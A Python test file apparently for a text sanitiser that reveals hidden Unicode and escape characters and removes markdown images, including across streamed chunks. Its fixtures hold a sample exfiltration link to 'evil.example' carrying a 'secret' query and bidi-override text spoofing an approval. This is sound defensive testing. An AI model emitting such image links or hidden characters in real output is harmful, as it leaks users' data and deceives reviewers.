"""What is shown is what is there: hidden characters told, images of documents never asked for."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.plain_text import ImageFreeStream, with_hidden_shown, without_images


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("approve \u202eevil\u202c", "approve <U+202E>evil<U+202C>"),
        ("a\u200bb", "a<U+200B>b"),
        ("\x1b[31mred", "<U+001B>[31mred"),
        ("\u2066x\u2069", "<U+2066>x<U+2069>"),
        ("two\nlines\tand 电池, café", "two\nlines\tand 电池, café"),
    ],
)
def test_hidden_characters_are_shown(text: str, shown: str) -> None:
    assert with_hidden_shown(text) == shown


def test_an_image_is_text() -> None:
    assert "![" not in without_images("see ![x](http://evil.example/?q=secret) and [a link](http://ok)")


@given(st.text(alphabet="![]()a ", max_size=40), st.integers(1, 4))
def test_nor_does_one_come_in_pieces(text: str, size: int) -> None:
    stream = ImageFreeStream()
    pieces = [stream.take(text[at : at + size]) for at in range(0, len(text), size)]
    assert "".join([*pieces, stream.rest()]) == without_images(text)
